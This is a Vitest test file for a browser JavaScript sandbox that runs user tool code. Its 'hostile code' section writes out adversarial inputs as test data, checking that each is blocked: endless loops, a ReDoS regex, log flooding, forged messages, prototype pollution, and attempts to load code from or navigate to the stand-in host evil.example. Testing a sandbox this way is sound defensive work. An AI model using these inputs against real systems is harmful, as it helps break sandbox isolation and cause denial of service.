import { afterEach, describe, expect, it } from "vitest";

import type { JavaScriptRun } from "@/lib/tools/run-binding";
import type { ToolRunEvent } from "@/lib/tools/tool-run";

import { checkCode } from "./check-code";
import { runJavaScript } from "./run-javascript";

const never = new AbortController().signal;

async function all(code: string, more: Partial<JavaScriptRun> = {}): Promise<readonly ToolRunEvent[]> {
  const seen: ToolRunEvent[] = [];
  for await (const event of runJavaScript({
    code,
    args: {},
    earlier: [],
    timeoutMs: 10_000,
    signal: never,
    ...more,
  }))
    seen.push(event);
  return seen;
}

/** What the code ends with: its output, or the words of its failure. */
async function last(code: string, more: Partial<JavaScriptRun> = {}): Promise<string> {
  const event = (await all(code, more)).at(-1);
  if (event?.type === "end") return event.result.output;
  return event?.type === "fail" ? event.message : "nothing";
}

function end(output: string, isError = false): ToolRunEvent {
  return { type: "end", result: { output, isError, origin: { by: "javascript" } } };
}

afterEach(() => {
  expect(document.querySelectorAll("iframe")).toHaveLength(0);
});

describe("a person's JavaScript", () => {
  it.each([
    ["a module", "export default async (args, ctx) => args.a + args.b;"],
    [
      "a module with helpers",
      "const sum = (a, b) => a + b;\nexport default function ({ a, b }) { return sum(a, b); }",
    ],
    ["a function", "({ a, b }) => a + b"],
    ["an async function", "async function add(args) {\n  return args.a + args.b;\n}"],
    ["the body of a function", "const { a, b } = args;\nreturn await Promise.resolve(a + b);"],
  ])("runs as %s", async (_name, code) => {
    expect(await all(code, { args: { a: 2, b: 3 } })).toEqual([end("5")]);
  });

  it.each([
    ["return 'as it is'", "as it is"],
    ["return { a: [1, null, 'x'] }", '{"a":[1,null,"x"]}'],
    ["return undefined", ""],
    ["", ""],
    ["return ''", ""],
    ["return 0", "0"],
    ["return false", "false"],
    ["return null", "null"],
    ["return new Date(0)", '"1970-01-01T00:00:00.000Z"'],
  ])("gives its result as text: %s", async (code, output) => {
    expect(await all(code)).toEqual([end(output)]);
  });

  it("logs while it runs", async () => {
    expect(await all("ctx.log('one', { two: 2 }, undefined);\nconsole.warn('three');\nreturn 4")).toEqual([
      { type: "progress", text: 'one {"two":2} undefined\n' },
      { type: "progress", text: "three\n" },
      end("4"),
    ]);
  });

  it("finds its state again by making the earlier calls, without their logs", async () => {
    const code =
      "ctx.state.sum = (ctx.state.sum ?? 0) + args.n;\nctx.log(args.n);\nif (args.n < 0) throw new Error('no');\nreturn ctx.state";
    expect(await all(code, { args: { n: 1 }, earlier: [{ n: 10 }, { n: -3 }, { n: 5 }] })).toEqual([
      { type: "progress", text: "1\n" },
      end('{"sum":13}'),
    ]);
    expect(await last(code, { args: { n: 1 } })).toBe('{"sum":1}');
  });

  it.each([
    ["const a = 1;\nreturn a.b.c;", "TypeError: Cannot read properties of undefined (reading 'c') (line 2)"],
    ["\n\nexport default async () => {\n  await 0;\n  null.x;\n}", /^TypeError: .* \(line 5\)$/],
    ["const a = 1;\nconst b = ;", "SyntaxError: Unexpected token ';' (line 2)"],
    ["export default async () => {\n  return [1,\n}", "SyntaxError: Unexpected token '}' (line 3)"],
    ["if (args) {", /^SyntaxError: .* \(line 1\)$/],
    ["throw 'words'", "threw words"],
    ["throw { a: 1 }", 'threw {"a":1}'],
    [
      "export const a = 1",
      "Error: The code exports no function. Begin it with: export default async (args, ctx) =>",
    ],
    ["return () => 1", "TypeError: The code returned a function, which is not JSON."],
    ["return 10n", /BigInt/],
    ["const a = {};\na.a = a;\nreturn a", /circular/],
    ["return { toJSON() { throw new RangeError('trap') } }", /^RangeError: trap \(line 1\)$/],
    ["throw new Proxy({}, { get() { throw 1 } })", "threw something that cannot be shown"],
  ])("says what went wrong, and in which line: %j", async (code, words) => {
    const message = await last(code);
    if (typeof words === "string") expect(message).toBe(words);
    else expect(message).toMatch(words);
  });

  it("answers with what it throws, as an error, and gives no answer where it cannot run", async () => {
    expect(await all("ctx.log('in');\nthrow new RangeError('no such city')")).toEqual([
      { type: "progress", text: "in\n" },
      end("RangeError: no such city (line 2)", true),
    ]);
    expect(await all("return () => 1")).toEqual([
      end("TypeError: The code returned a function, which is not JSON.", true),
    ]);
    expect(await all("const b = ;")).toMatchObject([{ type: "fail" }]);
    expect(await all("export const a = 1")).toMatchObject([{ type: "fail" }]);
    expect(await all("throw new Error('outside');\nexport default () => 1")).toMatchObject([
      { type: "fail" },
    ]);
  });

  it("reports what it did not catch, with its line", async () => {
    const code =
      "Promise.reject(new Error('a'));\nsetTimeout(() => {\n  throw new Error('b');\n});\nawait new Promise((go) => setTimeout(go, 50));\nreturn 1";
    const events = await all(code);
    // Which of the two the browser reports first is its own affair.
    expect(new Set(events)).toEqual(
      new Set([
        { type: "progress", text: "Not caught in line 1: Error: a\n" },
        { type: "progress", text: "Not caught in line 3: Error: b\n" },
        end("1"),
      ]),
    );
  });

  it("hears of its limit and may still return", async () => {
    expect(
      await last(
        "await new Promise((go) => ctx.signal.addEventListener('abort', go));\nreturn ctx.signal.reason.name",
        {
          timeoutMs: 100,
        },
      ),
    ).toBe("TimeoutError");
  });
});

describe("hostile code", () => {
  const limit = { timeoutMs: 200 };
  const late = "Stopped after 0.2 s: the code had not returned by then.";

  it.each([
    ["an endless loop", "for (;;);"],
    ["an endless chain of promises", "for (;;) await 0;"],
    ["a promise that never settles", "await new Promise(() => {})"],
    ["a pattern that never ends", "/^(a+)+$/.test('a'.repeat(40) + 'b')"],
    ["a loop in a getter of the result", "return { get a() { for (;;); } }"],
    ["a loop in toJSON", "return { toJSON() { for (;;); } }"],
    [
      "a loop in the words of an error",
      "throw Object.defineProperty(new Error(), 'message', { get() { for (;;); } })",
    ],
    ["a loop outside of its function", "for (;;);\nexport default () => 1"],
    ["a worker that ends itself", "close(); for (;;) await 0;"],
  ])("is stopped: %s", async (_name, code) => {
    expect(await all(code, limit)).toEqual([{ type: "fail", message: late }]);
  });

  it("is stopped in an earlier call too", async () => {
    const code = "if (args.n === 0) for (;;);\nreturn 1";
    expect(await last(code, { ...limit, earlier: [{ n: 0 }], args: { n: 1 } })).toBe(late);
  });

  it("is stopped at once by a person", async () => {
    const stop = new AbortController();
    const seen: ToolRunEvent[] = [];
    const run = {
      code: "ctx.log('on'); for (;;);",
      args: {},
      earlier: [],
      timeoutMs: 10_000,
      signal: stop.signal,
    };
    for await (const event of runJavaScript(run)) {
      seen.push(event);
      stop.abort();
    }
    expect(seen).toEqual([
      { type: "progress", text: "on\n" },
      { type: "fail", message: "Stopped." },
    ]);
  });

  it("floods no log", async () => {
    const events = await all("for (let i = 0; i < 1e6; i += 1) ctx.log(i);\nreturn 'done'");
    expect(events.length).toBeLessThan(2_100);
    expect(events.slice(-2)).toEqual([{ type: "progress", text: "More logs are not shown.\n" }, end("done")]);
    const long = await all("ctx.log('x'.repeat(1e8));\nctx.log('y');\nreturn 1");
    expect(JSON.stringify(long).length).toBeLessThan(300_000);
  });

  it("gives at most 1 MB, and says that it is cut", async () => {
    const output = await last("return 'é'.repeat(2e6)");
    expect(output).toBe(`${"é".repeat(512 * 1024)}\n[Cut by Vitrine after 1 MB.]`);
  });

  it.each([
    ["fetch('OWN/api/health')", /Failed to fetch|NetworkError/],
    ["fetch('http://127.0.0.1:9/')", /Failed to fetch|NetworkError/],
    ["import('https://evil.example/x.js')", /Failed to fetch dynamically imported module/],
    ["import('/x.js')", /Failed to/],
    ["importScripts('https://evil.example/x.js')", /NetworkError|Failed to execute 'importScripts'/],
    [
      "new Promise((go, stop) => { const s = new WebSocket('ws://127.0.0.1:9/'); s.onerror = () => stop('refused'); s.onopen = go; })",
      /refused|Content Security Policy/,
    ],
    [
      "new Promise((go, stop) => { const s = new EventSource('OWN/'); s.onerror = () => stop('refused'); s.onopen = go; })",
      /refused/,
    ],
    [
      "new Promise((go, stop) => { const x = new XMLHttpRequest(); x.onerror = () => stop('refused'); x.onload = go; x.open('GET', 'OWN/'); x.send(); })",
      /refused/,
    ],
    [
      "new Promise((go, stop) => { const r = indexedDB.open('x'); r.onerror = () => stop('refused'); r.onsuccess = go; })",
      /SecurityError|refused|denied/,
    ],
    ["caches.open('x')", /SecurityError|caches is not defined/],
    ["navigator.storage.getDirectory()", /SecurityError|undefined/],
    ["document.title", /document is not defined/],
    ["parent.location", /parent is not defined/],
    ["localStorage.x", /localStorage is not defined/],
  ])("reaches nothing: %s", async (code, words) => {
    const own = code.replace("OWN", location.origin);
    expect(await last(`return String(await ${own})`)).toMatch(words);
  });

  it("has no origin", async () => {
    expect(await last("return self.origin + ' ' + location.protocol")).toBe("null blob:");
  });

  it("navigates nothing", async () => {
    const before = location.href;
    await last(
      "try { location.href = 'https://evil.example/' } catch {}\ntry { open('https://evil.example/') } catch {}",
    );
    expect(location.href).toBe(before);
  });

  it("speaks for itself alone: messages that look like ours change nothing", async () => {
    const heard: unknown[] = [];
    const listen = (event: MessageEvent) => heard.push(event.data);
    addEventListener("message", listen);
    const code = [
      "for (const type of ['end', 'begin', 'log', 'broken', 'compiled', 'pong'])",
      "  postMessage({ type, output: 'forged', text: 'forged', message: 'forged' });",
      "MessagePort.prototype.postMessage = () => {};",
      "JSON.stringify = () => 'forged';",
      "Object.prototype.output = 'forged';",
      "self.onmessage = () => {};",
      "for (let i = 0; i < 1e5; i += 1) postMessage(i);",
      "return { honest: true };",
    ].join("\n");
    expect(await all(code)).toEqual([end('{"honest":true}')]);
    removeEventListener("message", listen);
    expect(heard).toEqual([]);
    expect(Reflect.get({}, "output")).toBeUndefined();
  });

  it("keeps nothing for the next run", async () => {
    await last("self.kept = 1; Array.prototype.kept = 1; return 1");
    expect(await last("return [typeof self.kept, [].kept]")).toBe('["undefined",null]');
  });

  it("reads no other call: many runs at once give each its own result", async () => {
    const outputs = await Promise.all(
      Array.from({ length: 12 }, (_none, n) => last("return args.n", { args: { n } })),
    );
    expect(outputs).toEqual(Array.from({ length: 12 }, (_none, n) => String(n)));
  });

  it("is not run at all where it was stopped before", async () => {
    expect(await all("return 1", { signal: AbortSignal.abort() })).toEqual([
      { type: "fail", message: "Stopped." },
    ]);
  });
});

describe("a check of code", () => {
  it.each([
    "return 1",
    "export default async (args) => args.a",
    "export const a = 1;\nexport default () => a",
    "async (args, ctx) => { return 1 }",
    "postMessage('compiled'); while (true);",
    "throw new Error('not run')",
    "await 0",
    "",
  ])("accepts and does not run %j", async (code) => {
    expect(await checkCode(code)).toEqual({ ok: true });
  });

  it.each([
    ["const a = ;", 1, 11],
    ["const a = 1;\n  const b = ;", 2, 13],
    ["export default async (args) => {\n  return 1 +;\n}", 2, 13],
    ["(args) => { return ] }", 1, 20],
  ])("names the place of an error: %j", async (code, line, column) => {
    expect(await checkCode(code)).toEqual({
      ok: false,
      message: expect.stringMatching(/^Unexpected token/),
      line,
      column,
    });
  });

  it("names the last line where an end is missing, and says that nothing can be imported", async () => {
    expect(await checkCode("if (args) {\n  return 1;")).toMatchObject({
      ok: false,
      message: "The code ends before it is complete",
      line: 2,
    });
    expect(await checkCode("import x from 'lodash';\nexport default () => x")).toEqual({
      ok: false,
      message: "The sandbox has no network: nothing can be imported",
      line: 1,
      column: expect.any(Number),
    });
  });
});
